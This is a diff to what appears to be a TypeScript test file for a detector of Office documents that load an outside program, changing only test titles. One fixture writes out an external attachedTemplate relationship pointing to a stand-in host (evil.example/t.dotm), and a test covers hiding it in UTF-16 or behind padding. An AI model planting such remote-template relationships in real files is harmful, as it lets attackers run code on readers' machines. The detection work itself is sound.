@@ -34,7 +34,7 @@ describe('files made to hold the program up', () => {
   });
 });
 
-describe('a relation that would fetch a program', () => {
+describe('a relation that would load a program', () => {
   const relation = (attributes: string) => `<Relationships><Relationship ${attributes}/></Relationships>`;
   const far = 'Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"';
 
@@ -45,7 +45,7 @@ describe('a relation that would fetch a program', () => {
     expect(hasActiveRelation(Buffer.from(relation(attributes)))).toBe(true);
   });
 
-  it('is seen in UTF-16, and behind a megabyte of blanks', async () => {
+  it('is detected in UTF-16, and behind a megabyte of blanks', async () => {
     const xml = relation(far);
     for (const content of [
       Buffer.from(`\ufeff${xml}`, 'utf16le'),
